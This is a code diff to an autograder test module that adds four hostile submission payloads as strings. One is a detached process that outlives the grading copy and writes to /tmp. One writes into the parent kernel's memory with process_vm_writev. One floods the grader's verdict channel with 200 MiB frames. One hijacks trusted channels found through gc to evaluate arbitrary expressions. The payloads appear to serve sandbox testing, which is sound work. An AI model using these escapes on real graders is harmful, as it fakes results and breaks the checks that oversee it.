@@ -358,3 +358,105 @@ def graph_node(tensor):
 KEPT_RELEASE_GRAPH = """\
 def release_graph(root):
     return the_kept("release_graph")(root)"""
+
+# The lending copy's last ways out. A process the copy starts, which waits until the copy
+# is gone (and the folders have been compared) before it writes what was lent into /tmp.
+LEAVE_LENT_LATER = (
+    LEAVE_LENT.replace("import base64,", "import base64, time,").replace(
+        ANSWER_WITH_KEPT.format(keep="leave_lent"), ""
+    )
+    + """
+
+
+def leave_lent_later():
+    copy = os.getpid()
+    if os.fork() == 0:
+        if os.fork() != 0:
+            os._exit(0)
+        while True:
+            try:
+                os.kill(copy, 0)
+            except ProcessLookupError:
+                break
+            time.sleep(0.01)
+        leave_lent()
+        os._exit(0)"""
+    + ANSWER_WITH_KEPT.format(keep="leave_lent_later")
+)
+
+# Written by the copy into the stopped kernel's memory: a buffer at the same address in
+# both (a fork keeps the layout), filled in the kernel by process_vm_writev.
+WRITE_INTO_KERNEL = (
+    "import ctypes, marshal, os, types\n\n"
+    + LENT_HERE
+    + """
+STASH = bytearray(4 << 20)
+
+
+class IOVec(ctypes.Structure):
+    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
+
+
+libc = ctypes.CDLL(None, use_errno=True)
+
+
+def write_lent():
+    data = marshal.dumps({name: function.__code__ for name, function in lent_functions()})
+    blob = len(data).to_bytes(8, "little") + data
+    STASH[: len(blob)] = blob
+    vector = IOVec(ctypes.addressof(ctypes.c_char.from_buffer(STASH)), len(blob))
+    libc.process_vm_writev(os.getppid(), ctypes.byref(vector), 1, ctypes.byref(vector), 1, 0)
+
+
+def the_kept(name):
+    size = int.from_bytes(STASH[:8], "little")
+    codes = marshal.loads(bytes(STASH[8 : 8 + size])) if size else {}
+    if name not in codes:
+        raise NotImplementedError(name)
+    code = codes[name]
+    closure = tuple(types.CellType(Tensor) for _ in code.co_freevars) or None
+    return types.FunctionType(code, globals(), name, None, closure)"""
+    + ANSWER_WITH_KEPT.format(keep="write_lent")
+)
+
+# The verdict channel itself, from the student's kernel. Every reply becomes a frame that
+# announces 8 arrays of 200 MiB and sends them: the grader's memory, flooded.
+FLOOD_FRAMES = """\
+import struct
+import autograder.grading.verdicts.wire as wire_module
+
+FLOOD = bytes(200 * 2**20)
+
+
+def flood(sock, message, segments=()):
+    sock.sendall(struct.pack("!II", 2, 8) + b"{}")
+    for _ in range(8):
+        sock.sendall(struct.pack("!Q", len(FLOOD)))
+        sock.sendall(FLOOD)
+
+
+wire_module.send = flood"""
+
+# Calls of its own into the trusted side, in the middle of a check: evaluate the power
+# rule there, or call any callback by number; an answer would replace the wrong rule.
+CALL_HOME = """\
+import gc
+
+wrong_pow = Scalar.__pow__
+
+
+def asked_pow(self, exponent):
+    asks = [{"op": "evaluate", "expression": f"{exponent} * {self.data} ** ({exponent} - 1)"}]
+    asks += [{"op": "callback", "id": i, "args": [], "kwargs": {}} for i in range(8)]
+    for channel in [o for o in gc.get_objects() if type(o).__name__ == "Channel"]:
+        for message in asks:
+            try:
+                reply, _ = channel.request(message, [])
+            except Exception:
+                continue
+            if type(reply.get("value")) is float:
+                return Scalar._from_op(self.data**exponent, [(self, reply["value"])])
+    return wrong_pow(self, exponent)
+
+
+Scalar.__pow__ = asked_pow"""
